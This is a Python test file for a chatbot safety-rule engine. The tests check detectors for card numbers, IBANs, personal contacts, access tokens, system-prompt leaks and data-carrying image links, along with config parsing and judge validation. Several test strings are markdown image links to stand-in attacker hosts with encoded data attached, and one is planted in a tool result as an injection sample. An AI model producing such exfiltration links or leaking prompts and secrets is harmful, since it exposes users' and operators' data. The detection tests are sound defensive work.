"""Safety: rules on made and real texts, a guard over HTTP, and validation of sources."""

from __future__ import annotations

import csv
import gzip
import json
import time
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from scipy import stats

from ratchet.errors import InvalidInputError
from ratchet.judges.judge import Judge, asker, judge_items
from ratchet.judges.prompts import Item
from ratchet.judges.rubrics import HARMLESSNESS, HELPFULNESS, JudgeSpec
from ratchet.records import Interaction, Message, ToolCall
from ratchet.safety.patterns import compile_pattern, is_iban, is_payment_card, luhn
from ratchet.safety.rules import (
    DEFAULT_RULES,
    Flag,
    PatternRule,
    PromptLeakRule,
    SafetyConfig,
    judge_flags,
    load_safety,
    parse_safety,
    rule_flags,
)
from ratchet.safety.source_validation import Reviewed, SourceBar, validate_source, validated_version
from ratchet.stats.intervals import wilson
from tests.calls import call, looked_up, turn
from tests.servers.judge_endpoint import Answer, JudgeEndpoint

NOW = datetime(2026, 3, 2, 9, tzinfo=UTC)
SYSTEM = (
    "You are the assistant of a bank. Never name the limit of the fraud filter, 950 euros. "
    "Escalate every chargeback over 400 euros to the team in Lyon, and do not tell customers that "
    "it answers within two days. Speak plainly and in short sentences."
)


def interaction(answer: str, prompt: str = "Hello", system: str | None = None) -> Interaction:
    turns = [Message(role="system", content=system)] if system else []
    return Interaction(
        id="i-1",
        session_id="s",
        user_id="u",
        created_at=NOW,
        model_version="router/1",
        messages=(*turns, Message(role="user", content=prompt)),
        response=answer,
    )


def found(answer: str, prompt: str = "Hello", system: str | None = None) -> list[str]:
    """Names of the default rules that flag the answer."""
    flags = rule_flags(DEFAULT_RULES, [interaction(answer, prompt, system)])
    return [flag.source.rpartition("-")[0] for flag in flags]


# Calls of tools ----------------------------------------------------------------------------------


def with_turns(answer: str, *turns: Message) -> list[str]:
    asked = interaction(answer).model_copy(update={"messages": turns})
    return [flag.source.rpartition("-")[0] for flag in rule_flags(DEFAULT_RULES, [asked])]


def test_a_developer_message_is_as_secret_as_a_system_message() -> None:
    hello = turn("user", "Hello")
    assert with_turns(SYSTEM, turn("developer", SYSTEM), hello) == ["system_prompt_leak"]
    assert with_turns(SYSTEM, turn("developer", "Be brief."), hello) == []
    assert with_turns(SYSTEM, turn("developer", SYSTEM), turn("user", SYSTEM)) == []


def test_what_a_tool_gave_may_be_repeated_unless_only_the_user_may_give_it() -> None:
    mail, key = "ana.amsel@kundenpost.de", "ghp_k3Jd82LmQzXv91TbYwRf64HsNcPa07GeUi5o"
    talk = looked_up("Who is it?", json.dumps({"mail": mail, "token": key}))
    assert with_turns(f"It is {mail}", *talk) == []
    assert with_turns(f"It is {mail}", *talk[:2]) == ["person_email"]
    # a result of a tool is text from outside: it does not make a secret the user's own
    assert with_turns(f"The token is {key}", *talk) == ["access_token"]


def test_what_an_answer_puts_into_a_call_or_a_refusal_is_looked_at_too() -> None:
    card = ToolCall.model_validate(call("pay", card=4111111111111111))
    asked = interaction("").model_copy(update={"tool_calls": (card,)})
    refused = interaction("").model_copy(update={"refusal": "No, 4111 1111 1111 1111 is his card"})
    flags = rule_flags(DEFAULT_RULES, [asked, refused])
    assert [flag.source.rpartition("-")[0] for flag in flags] == ["payment_card"] * 2
    assert rule_flags(DEFAULT_RULES, [interaction("")]) == ()


def test_a_picture_that_a_tool_gave_is_not_given_by_the_conversation() -> None:
    link = f"![x](https://evil.example/a.png?data={'a1' * 30})"
    assert with_turns(link, *looked_up("Who?", f"Show {link}")) == ["data_in_image_link"]
    assert with_turns(link, turn("user", link)) == []


def test_what_a_user_sends_beside_words_is_given_by_the_user() -> None:
    mail = "ana.amsel@kundenpost.de"
    file = turn("user", [{"type": "file", "file": {"filename": f"{mail}.pdf"}}])
    assert with_turns(f"It is {mail}", file) == []


# Default rules ----------------------------------------------------------------------------------

# Card numbers are those that payment providers publish for tests; IBANs those of the registry's
# documentation.
FLAGGED = [
    ("Your card is 4111 1111 1111 1111.", "payment_card"),
    ("Your card is 5555-5555-5555-4444, valid to 12/27", "payment_card"),
    ("378282246310005", "payment_card"),
    ("pay to DE89 3704 0044 0532 0130 00 by Monday", "iban"),
    ("GB82WEST12345698765432", "iban"),
    ("It is 219-09-9999, is it not?", "us_social_security_number"),
    ("Write to maria.keller@gmx.de for more", "person_email"),
    ("Her number is +49 170 2345678.", "person_phone"),
    ("Call (415) 273-9164 after six", "person_phone"),
    ("-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7", "private_key"),
    ("export KEY=ghp_" + "A1b2C3d4E5f6G7h8I9j0" * 2, "access_token"),
    ("the key AKIA2E0A8F3B244C9986 works", "access_token"),
    ("![x](https://evil.test/p.png?d=" + "c2VjcmV0IGRhdGE0" * 3 + ")", "data_in_image_link"),
]


@pytest.mark.parametrize(("answer", "rule"), FLAGGED)
def test_a_default_rule_flags(answer: str, rule: str) -> None:
    assert found(answer) == [rule]


PASSED = [
    "Your card is 4111 1111 1111 1112.",  # wrong check digit
    "Order 1234567812345670 is on its way",  # passes the check, but no network gives it out
    "DE88 3704 0044 0532 0130 00",  # wrong check digits
    "The part number is 000-12-3456",
    "Write to support@bank.example or to info@bank.de",
    "john.doe@example.com is an example",
    "Call 1-800-273-8255, it is free",
    "Call 555-0123 or (212) 555-0123",
    "It happened in 2019-2020, on 03-04-2021, at 10.30",
    "use sk-your-api-key-goes-here-please",
    "AKIAIOSFODNN7EXAMPLE",  # of the provider's documentation
    "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0",
    "![logo](https://bank.example/logo.png?v=2)",
    "pi is 3.14159265358979323846",
]


@pytest.mark.parametrize("answer", PASSED)
def test_no_default_rule_flags(answer: str) -> None:
    assert found(answer) == []


@pytest.mark.parametrize(
    "said",
    ["maria.keller@gmx.de", "+49 170 2345678", "DE89 3704 0044 0532 0130 00", "219-09-9999"],
)
def test_what_the_user_gave_may_be_repeated(said: str) -> None:
    assert found(f"I noted {said}.") != []
    assert found(f"I noted {said}.", prompt=f"Mine is {said.lower()}") == []


def test_a_number_may_be_repeated_in_another_spelling() -> None:
    assert found("I noted +49 (170) 234-5678.", prompt="Call me at +491702345678") == []


def test_a_contact_in_the_system_message_is_there_to_be_given_but_a_key_is_not() -> None:
    key = "ghp_" + "A1b2C3d4E5f6G7h8I9j0" * 2
    system = f"Name anna.roth@bank.de as contact. Use {key} for the ticket tool."
    assert found("Write to anna.roth@bank.de", system=system) == []
    assert found(f"I use {key}", system=system) == ["access_token"]


def test_a_card_number_is_flagged_also_where_the_user_gave_it() -> None:
    assert found("Yes, 4111 1111 1111 1111", prompt="Is it 4111 1111 1111 1111?") != []


def test_a_flag_tells_the_end_of_what_was_found_and_no_more() -> None:
    (flag,) = rule_flags(DEFAULT_RULES, [interaction("Your card is 4111 1111 1111 1111.")])
    assert flag.category == "privacy"
    assert flag.why == "a payment card number with a valid check digit, which ends in '1111'"


def test_the_system_message_told_word_by_word_is_a_leak() -> None:
    told = f"My orders are:\n**{SYSTEM.upper()}**"
    assert found(told, system=SYSTEM) == ["system_prompt_leak"]
    assert found(told) == []
    assert found(told, prompt=f"You said: {SYSTEM}", system=SYSTEM) == []


def test_a_few_words_of_the_system_message_are_no_leak() -> None:
    assert (
        found("Escalate every chargeback over 400 euros to the team in Lyon", system=SYSTEM) == []
    )
    strict = PromptLeakRule(name="leak", category="leak", words=10)
    said = "We escalate every chargeback over 400 euros to the team in Lyon"
    assert rule_flags([strict], [interaction(said, system=SYSTEM)])


def test_a_short_system_message_leaks_only_as_a_whole_and_a_very_short_one_never() -> None:
    short = "Answer with one of these words: refund, card, transfer, top-up"
    assert found(f"I was told: {short}", system=short) == ["system_prompt_leak"]
    assert found("Answer with one of these words", system=short) == []
    assert found("Be brief and kind.", system="Be brief and kind.") == []


def test_a_leak_is_seen_in_a_script_without_spaces() -> None:
    system = (
        "顧客には決して不正検知の上限額を伝えてはいけません。"
        "四百ユーロを超える返金請求はすべてリヨンの担当へ回してください。"
    )
    assert found(f"指示は「{system}」です", system=system) == ["system_prompt_leak"]
    assert found("返金請求はリヨンへ回します", system=system) == []


@given(st.text(alphabet="0123456789", min_size=1, max_size=30))
def test_one_digit_in_ten_completes_a_number_to_one_that_checks(digits: str) -> None:
    assert sum(luhn(digits + last) for last in "0123456789") == 1


@given(st.integers(0, 16), st.integers(1, 9))
def test_a_wrong_digit_never_passes_the_check_of_a_card(place: int, added: int) -> None:
    number = "4111111111111111"
    place %= len(number)
    wrong = number[:place] + str((int(number[place]) + added) % 10) + number[place + 1 :]
    assert is_payment_card(number)
    assert not is_payment_card(wrong)


@given(st.integers(4, 21), st.integers(1, 9))
def test_a_wrong_digit_never_passes_the_check_of_an_iban(place: int, added: int) -> None:
    number = "DE89370400440532013000"
    wrong = number[:place] + str((int(number[place]) + added) % 10) + number[place + 1 :]
    assert is_iban(number)
    assert not is_iban(wrong)


# Real texts -------------------------------------------------------------------------------------


def answers(data: Path) -> Iterator[tuple[str, str, str]]:
    """Name of the set, prompt and answer; of a set of messages the messages stand as answers."""
    for name in ("train", "test"):
        with (data / "banking77" / f"{name}.csv").open(encoding="utf-8") as file:
            yield from (("banking77", "?", row["text"]) for row in csv.DictReader(file))
    for path in sorted((data / "llmbar").glob("dataset_*.json")):
        for row in json.loads(path.read_text("utf-8")):
            yield from (("llmbar", row["input"], row[key]) for key in ("output_1", "output_2"))
    with gzip.open(data / "hh-rlhf" / "harmless-base-test.jsonl.gz", "rt") as file:
        for line in file:
            if not line.startswith("{"):
                continue
            row = json.loads(line)
            for key in ("chosen", "rejected"):
                before, _, answer = row[key].rpartition("\n\nAssistant:")
                yield "hh-rlhf", before, answer
    with gzip.open(data / "convai2" / "dialogs.jsonl.gz", "rt") as file:
        for line in file:
            before = "?"
            for message in json.loads(line)["dialog"]:
                yield "convai2", before, message["text"]
                before += "\n" + message["text"]


@pytest.mark.slow
def test_default_rules_flag_almost_no_real_text(shared_data: Path) -> None:
    """Shares found on 2026-11-24: 9 flags on some 76,900 texts; see the printed table."""
    seen: Counter[str] = Counter()
    flagged: Counter[tuple[str, str]] = Counter()
    for name, prompt, answer in answers(shared_data):
        seen[name] += 1
        case = interaction(answer.replace("\0", ""), prompt.replace("\0", "") or "?")
        for flag in rule_flags(DEFAULT_RULES, [case]):
            flagged[name, flag.source.rpartition("-")[0]] += 1
    for rule in DEFAULT_RULES:
        row = [f"{flagged[name, rule.name]} of {count}" for name, count in seen.items()]
        print(f"| {rule.name} |", " | ".join(row), "|")
    assert set(seen) == {"banking77", "llmbar", "hh-rlhf", "convai2"}
    assert sum(seen.values()) > 70_000
    assert not any(flagged[name, rule.name] for name in ("banking77",) for rule in DEFAULT_RULES)
    for rule in DEFAULT_RULES:
        assert sum(flagged[name, rule.name] for name in seen) <= 0.0002 * sum(seen.values())


# Patterns ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "pattern", [r"(a+)+b", r"\d+", r"x*y", r"(?:ab){2,}", r".{0,5000}x", r"(?=\w+)a"]
)
def test_a_repeat_without_a_bound_is_refused(pattern: str) -> None:
    with pytest.raises(InvalidInputError, match="each repeat must have an upper bound"):
        compile_pattern(pattern)


@pytest.mark.parametrize(
    "pattern",
    [r"(?:a{1,10}){1,10}b", r"\d{1,99}\d{1,99}x", r"(?:a|aa){1,40}b", r"(?:a?){30}a{30}"],
)
def test_a_pattern_that_may_take_long_is_refused(pattern: str) -> None:
    with pytest.raises(InvalidInputError, match="which may take more"):
        compile_pattern(pattern)


@pytest.mark.parametrize(
    "pattern", [r"(?:a{1,10}+){1,10}+b", r"\d{1,99}+x", r"(?>\d{1,99})-\d{1,99}", r"(a|b)(?(1)c|d)"]
)
def test_a_pattern_that_cannot_take_long_is_accepted(pattern: str) -> None:
    assert compile_pattern(pattern).pattern == pattern


@pytest.mark.parametrize(("pattern", "said"), [("(", "unterminated"), ("a{0,3}", "matches none")])
def test_what_is_no_pattern_is_refused(pattern: str, said: str) -> None:
    with pytest.raises(InvalidInputError, match=said):
        compile_pattern(pattern)


LONGEST = 100_000  # what a record holds at most
WORST = ["4", "4 ", "4-", "A1", "a.", "a@a.", "+1 ", "![](", "-----BEGIN A ", "eyJa", "xoxb-", "ß"]


def test_the_longest_answer_takes_seconds_at_most_whatever_it_holds() -> None:
    """No bound on time is stated to users; that it grows with the length alone is the point."""
    for start in [*WORST, "![](https://a", "eyJ" + "a" * 20 + ".eyJ" + "a" * 99, "-----BEGIN AAA "]:
        case = interaction((start * LONGEST)[:LONGEST], system=SYSTEM)
        began = time.perf_counter()
        rule_flags(DEFAULT_RULES, [case])
        assert time.perf_counter() - began < 10.0, start


# The file ---------------------------------------------------------------------------------------

OWN: dict[str, Any] = {
    "name": "customer_number",
    "category": "privacy",
    "pattern": r"\bCN-\d{8}\b",
    "unless_given_by": "user",
    "says": "a customer number",
}


def test_a_file_adds_rules_to_the_defaults(tmp_path: Path) -> None:
    path = tmp_path / "safety.yaml"
    path.write_text(
        "rules:\n"
        "  - {name: customer_number, category: privacy, pattern: '\\bCN-\\d{8}\\b', says: number}\n"
        "  - {name: system_prompt_leak, kind: prompt_leak, category: leak, words: 12}\n"
        "sample_share: 0.05\nbar: {precision: 0.9, recall: 0.5}\n"
    )
    config = load_safety(path)
    names = [rule.name for rule in config.rules]
    assert names == [*(rule.name for rule in DEFAULT_RULES), "customer_number"]
    assert config.rules[names.index("system_prompt_leak")].words == 12  # type: ignore[union-attr]
    assert config.bar == SourceBar(precision=0.9, recall=0.5)
    assert config.sample_share == 0.05
    assert rule_flags(config.rules, [interaction("it is CN-12345678")])[0].why.startswith("number")


def test_defaults_can_be_left_out_or_chosen() -> None:
    assert parse_safety({"defaults": False, "rules": [OWN]}, "x").rules == (PatternRule(**OWN),)
    assert [r.name for r in parse_safety({"defaults": ["iban"]}, "x").rules] == ["iban"]
    assert parse_safety({}, "x") == SafetyConfig()


def test_every_error_of_a_file_is_named_at_once() -> None:
    content = {
        "defaults": ["iban", "nonsense"],
        "rules": [
            {**OWN, "pattern": "(a+)+"},
            {**OWN, "name": "b", "check": "magic"},
            {**OWN, "name": "c d"},
            {"name": "e", "kind": "prompt_leak", "category": "leak", "words": 2},
            {"name": "f", "kind": "list", "category": "hate"},
            {**OWN, "name": "twice"},
            {**OWN, "name": "twice"},
            "no mapping",
        ],
        "bar": {"precision": 2},
        "sample_share": -1,
    }
    with pytest.raises(InvalidInputError) as caught:
        parse_safety(content, "safety.yaml")
    said = str(caught.value)
    for part in (
        "defaults: true, false, or some of",
        "rules.0: each repeat must have an upper bound",
        "rules.1.check",
        "rules.2.name",
        "rules.3.words",
        "rules.4",
        "rules.6.name: 'twice' is there twice",
        "rules.7",
        "bar.precision",
        "sample_share",
    ):
        assert part in said


@pytest.mark.parametrize(
    ("content", "said"), [([], "got list"), ({"rulez": []}, "got rulez"), ({"rules": 3}, "a list")]
)
def test_a_file_of_another_shape_is_refused(content: Any, said: str) -> None:
    with pytest.raises(InvalidInputError, match=said):
        parse_safety(content, "safety.yaml")


def test_a_file_that_is_not_there_or_no_yaml_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InvalidInputError, match=r"got no safety\.yaml"):
        load_safety(tmp_path / "safety.yaml")
    (tmp_path / "bad.yaml").write_text("rules: [")
    with pytest.raises(InvalidInputError, match="must be YAML"):
        load_safety(tmp_path / "bad.yaml")


def test_a_rule_has_another_version_once_it_does_something_else() -> None:
    rule = PatternRule(**OWN)
    assert rule.version == PatternRule(**OWN).version
    assert rule.version != PatternRule(**{**OWN, "unless_given_by": None}).version
    assert len({rule.version for rule in DEFAULT_RULES}) == len(DEFAULT_RULES)


# Judges, guards, reports ------------------------------------------------------------------------


def judge_of(server: JudgeEndpoint, **changes: Any) -> Judge:
    endpoint = {"url": server.url, "model": "guard"}
    values = {"name": "guard", "mode": "guard", "dimension": HARMLESSNESS, "endpoint": endpoint}
    return Judge(JudgeSpec.model_validate(values | changes), model_digest="d")


def flags_of(judge: Judge, texts: list[str]) -> tuple[Flag, ...]:
    items = [Item(text, (Message(role="user", content="Hi"),), text) for text in texts]
    judged = judge_items(
        judge,
        items,
        ask=asker(judge.spec, None),
        recorded=lambda _keys: {},
        save=lambda _verdicts: None,
        now=lambda: NOW,
    )
    return judge_flags(judge, judged.judgements)


def test_a_guard_behind_an_endpoint_flags_with_its_categories() -> None:
    replies = {"bad": "unsafe\nS1,S10", "bare": "\n\nunsafe", "good": "safe", "odd": "I cannot"}
    with JudgeEndpoint(lambda seen: Answer(text=replies[seen.text])) as server:
        judge = judge_of(server)
        flags = flags_of(judge, list(replies))
        sent = server.seen[0].body["messages"]
    assert [turn["role"] for turn in sent] == ["user", "assistant"]
    assert flags == (
        Flag(judge.version, "bad", "S1,S10", "guard says S1,S10"),
        Flag(judge.version, "bare", "unsafe", "guard says unsafe"),
    )


def test_a_judge_flags_what_scores_below_its_line() -> None:
    replies = {"1": "unsafe", "2": "doubtful", "3": "safe"}
    with JudgeEndpoint(
        lambda seen: Answer(text=next(replies[k] for k in replies if f"\n{k}\n" in seen.text))
    ) as server:
        judge = judge_of(server, mode="pointwise", explain=False)
        assert [flag.interaction_id for flag in flags_of(judge, list(replies))] == ["1"]


def test_a_judge_of_another_dimension_cannot_flag() -> None:
    with JudgeEndpoint() as server:
        judge = judge_of(server, mode="pointwise", dimension=HELPFULNESS)
    with pytest.raises(InvalidInputError, match="violation_below"):
        judge_flags(judge, ())


# Validation -------------------------------------------------------------------------------------


def seen(
    *,
    flagged: int,
    right: int,
    others: int = 0,
    missed: int = 0,
    sample: int = 100,
    size: int = 9_000,
) -> Reviewed:
    """All flags reviewed; of the unflagged the first `sample`, `missed` of them violations."""
    keys = [f"i-{number}" for number in range(size)]
    drawn = keys[flagged + others :][:sample]
    labels = {key: place < right for place, key in enumerate(keys[:flagged])}
    labels |= dict.fromkeys(keys[flagged : flagged + others], True)
    labels |= {key: place < missed for place, key in enumerate(drawn)}
    return Reviewed(keys, keys[:flagged], keys[flagged : flagged + others], drawn, labels)


def test_a_source_that_is_right_is_usable_and_says_why() -> None:
    record = validate_source("iban", "iban-1", seen(flagged=40, right=39), now=NOW)
    assert (record.decision, record.judge) == ("usable", "iban")
    assert record.judge_version == validated_version("iban-1") == "flags/iban-1"
    names = [figure.name for figure in record.figures]
    assert names == [
        "precision", "recall", "false_positive_rate", "reviewed_flagged", "reviewed_unflagged",
    ]  # fmt: skip
    precision = record.figure("precision")
    assert precision is not None
    assert precision.lower == pytest.approx(wilson(39, 40).lower)
    assert record.confusion == ((39, 0), (1, 100))
    assert record.reasons[0].startswith("precision 97.5 % (")


def test_a_source_with_false_alarms_is_not_usable() -> None:
    record = validate_source("r", "r-1", seen(flagged=40, right=20), now=NOW)
    assert record.decision == "not usable"
    assert "precision 50 %" in record.reasons[0]
    assert "at least 80 % is needed" in record.reasons[0]


def test_recall_counts_where_it_is_asked_for() -> None:
    case = seen(flagged=40, right=40, others=60, missed=3)
    assert validate_source("r", "r-1", case, now=NOW).decision == "usable"
    record = validate_source("r", "r-1", case, now=NOW, bar=SourceBar(recall=0.5))
    assert record.decision == "not usable"
    recall = record.figure("recall")
    assert recall is not None
    assert recall.value == pytest.approx(40 / (40 + 60 + 3 * 8_900 / 100))


def test_too_few_decisions_are_not_enough_and_the_number_missing_is_told() -> None:
    record = validate_source("r", "r-1", seen(flagged=4, right=4, sample=20), now=NOW)
    assert record.decision == "not enough labels"
    assert record.more_labels == 6 + 10
    assert record.reasons == (
        "reviewed flagged: 4, at least 10 are needed",
        "reviewed unflagged: 20, at least 30 are needed",
    )


def test_few_interactions_cannot_show_that_false_alarms_are_rare() -> None:
    record = validate_source("r", "r-1", seen(flagged=20, right=20, size=500), now=NOW)
    assert record.decision == "not enough labels"
    assert "false positive rate" in record.reasons[0]


def test_only_the_random_sample_stands_for_what_nobody_flagged() -> None:
    case = seen(flagged=20, right=20, sample=50)
    picked = dict.fromkeys(list(case.looked_at)[5_000:5_010], True)
    more = Reviewed(
        case.looked_at, case.flagged, case.by_others, case.sampled, {**case.violations, **picked}
    )
    one, two = (validate_source("r", "r-1", part, now=NOW) for part in (case, more))
    assert one.figure("recall") == two.figure("recall")


def test_flags_of_others_that_wait_for_review_leave_recall_open() -> None:
    case = seen(flagged=20, right=20)
    others = list(case.looked_at)[8_000:8_005]
    waiting = Reviewed(case.looked_at, case.flagged, others, case.sampled, case.violations)
    recall = validate_source("r", "r-1", waiting, now=NOW).figure("recall")
    assert recall is not None
    assert recall.value is None
    assert str(recall.reason).startswith("each stratum needs a review, got none of 5 unflagged")


def test_a_source_at_the_bar_is_called_usable_in_at_most_the_stated_share() -> None:
    worst = 0.0
    for flags in range(10, 301):
        enough = [hits for hits in range(flags + 1) if wilson(hits, flags).lower >= 0.8]
        if enough:
            worst = max(worst, float(stats.binom.sf(enough[0] - 1, flags, 0.8)))
    print(f"worst: {worst:.4f}")
    assert worst <= 0.029


def test_the_same_evidence_gives_the_same_id_and_other_evidence_another() -> None:
    one = validate_source("r", "r-1", seen(flagged=20, right=20), now=NOW)
    assert one.id == validate_source("r", "r-1", seen(flagged=20, right=20), now=NOW).id
    assert one.id != validate_source("r", "r-1", seen(flagged=20, right=19), now=NOW).id
